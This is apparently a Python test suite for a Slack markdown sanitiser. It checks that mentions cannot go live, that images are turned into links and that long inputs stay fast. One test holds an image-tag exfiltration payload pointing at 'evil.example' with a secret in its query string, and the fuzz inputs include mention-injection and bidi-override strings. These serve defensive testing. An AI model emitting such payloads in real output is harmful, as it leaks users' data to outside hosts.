"""Markdown as it is sent: nothing in it is live, and it reads as it was written."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.slack.markdown import as_mrkdwn, escape, measure, plain, safe, settled
from tests.fakes.slack.text import decoded, live_tokens, read_markdown, read_mrkdwn

MENTIONS = ["<!channel>", "<@U0ANN>", "<#C0DEV|dev>", "<!here|x>", "<!subteam^S0|ops>", "<@W1>"]
PIECES = [*MENTIONS, "&lt;", "&amp;", "&", "<", ">", "`", "```\n", "~~~\n", "\n", "> ", "- ", "* ",
          "1. ", "![a](", "[b](", ")", "https://x.y/?a=1&lt;b", "|", "&#60;!channel&#62;", " ", "é",
          "😀", "\u202e", "\\", "[![a](b", ")]("]  # fmt: skip
TEXTS = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=30).map("".join)


@pytest.mark.threat("T57")
@given(TEXTS)
def test_t57_no_text_makes_a_live_mention(text: str) -> None:
    sent = safe(text)
    assert live_tokens(sent, markdown=True) == []
    assert re.search(r"<[@#!a-zA-Z]", sent) is None
    assert "<" not in sent


@given(TEXTS)
def test_every_character_is_shown_as_it_was(text: str) -> None:
    written = safe(text.replace("![", "[").replace("<http", "http").replace("<mailto", "mailto"))
    shown = decoded(written)
    assert decoded(safe(shown)) == shown


@given(TEXTS)
def test_n16_the_length_is_that_of_what_is_sent(text: str) -> None:
    sent = safe(text)
    assert measure(text) == len(sent.encode("utf-16-le", "surrogatepass")) // 2
    assert measure(text) >= len(sent)


@given(TEXTS, TEXTS)
def test_what_is_settled_is_never_taken_back(before: str, after: str) -> None:
    assert before.startswith(settled(before))
    whole = before + after
    if not set("`~\u202e") & set(whole):  # code and what is dropped may change what came before
        assert safe(whole).startswith(safe(settled(before)))


@pytest.mark.parametrize(
    ("markdown", "sent"),
    [
        ("5 < 6 & 7 > 2", "5 &lt; 6 & 7 &gt; 2"),
        ("> a quote\n> > deeper > 1", "> a quote\n> > deeper &gt; 1"),
        ("- > in a list", "- > in a list"),
        ("a `<b>` c", "a `&lt;b&gt;` c"),
        ("```html\n<b>&lt;</b>\n```", "```html\n&lt;b&gt;&amp;lt;&lt;/b&gt;\n```"),
        ("see <https://x.y/?a=1&b=2>", "see https://x.y/?a=1&b=2"),
        ("[a](https://x.y/?a=1&b=2)", "[a](https://x.y/?a=1&b=2)"),
        ("![cat](https://x.y/c.png)", "[cat](https://x.y/c.png)"),
        ("![](https://x.y/c.png)", "[image](https://x.y/c.png)"),
        ("[![cat](https://x.y/a_(b).png)](https://x.y)", "[cat](https://x.y)"),
        ("`![cat](x)` and ![cat](x)", "`![cat](x)` and [cat](x)"),
        ("```\n![cat](x)\n```", "```\n![cat](x)\n```"),
        ("- [ ] to do\n- [x] done", "- [ ] to do\n- [x] done"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("<u>html</u>", "&lt;u&gt;html&lt;/u&gt;"),
        ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
        ("a\x00b\x1bc", "abc"),
    ],
)
def test_markdown_goes_as_it_is_but_for_three_signs(markdown: str, sent: str) -> None:
    assert safe(markdown) == sent


@pytest.mark.threat("T21")
def test_t21_pictures_become_links() -> None:
    hidden = "![x](https://evil.example/?secret=1)"
    assert safe(f"look {hidden}") == "look [x](https://evil.example/?secret=1)"


def test_code_in_a_list_and_fences_in_fences_stay_code() -> None:
    markdown = "- item\n  ```py\n  a < b  # ![x](y)\n  ```\n````\n```\n![x](y)\n```\n````\n![x](y)"
    assert safe(markdown).count("![x](y)") == 2
    assert safe(markdown).endswith("[x](y)")


def test_what_is_read_is_what_was_written() -> None:
    assert read_markdown(safe("**1 < 2** & `a>b` <!channel>")) == "1 < 2 & a>b <!channel>"


@pytest.mark.parametrize(
    ("growing", "shown"),
    [
        ("hello ![ca", "hello "),
        ("hello [![cat](https://x.y/a_(b", "hello "),
        ("hello [![cat](https://x.y/c.png)]", "hello "),
        ("hello [![cat](https://x.y/c.png) and", "hello [![cat](https://x.y/c.png) and"),
        ("hello ![cat]", "hello "),
        ("hello !", "hello "),
        ("hello &am", "hello "),
        ("hello <htt", "hello "),
        ("hello! you", "hello! you"),
        ("1 < 2", "1 < 2"),
    ],
)
def test_an_unfinished_end_is_held_back(growing: str, shown: str) -> None:
    assert settled(growing) == shown


def test_captions_are_in_slacks_own_markup() -> None:
    sent = as_mrkdwn("**Bold** <!here> [a page](https://x.y)")
    assert sent == "*Bold* &lt;!here&gt; <https://x.y|a page>"
    assert read_mrkdwn(sent) == "Bold <!here> a page"


@given(TEXTS)
def test_t57_nor_does_a_caption_or_a_notification(text: str) -> None:
    assert live_tokens(as_mrkdwn(text), markdown=False) == []
    assert live_tokens(escape(text), markdown=False) == []
    assert "<" not in plain(text, 4000)


def test_a_notification_is_words_cut_to_size() -> None:
    assert plain("# Title\n\n**bold** `x`\n```py\ncode\n```", 4000) == "Title\n\nbold x\n\ncode"
    cut = plain("a < b " * 1000, 100)
    assert len(cut) <= 100
    assert cut.endswith("…")
    assert re.search(r"&[a-z]*…$", cut) is None


@pytest.mark.timeout(20)
@pytest.mark.parametrize("unit", [" ", "\n", "> ", "- ", "1. ", "![", "[![", "<", "`", "![a] "])
@pytest.mark.parametrize("end", ["x", "]y", "> y"])
def test_t67_no_text_takes_long_to_be_made_safe(unit: str, end: str) -> None:
    text = unit * (30_000 // len(unit)) + end
    assert decoded(safe(text)).endswith(end[-1])
    assert text.startswith(settled(text))
    assert len(plain(text, 100)) <= 100
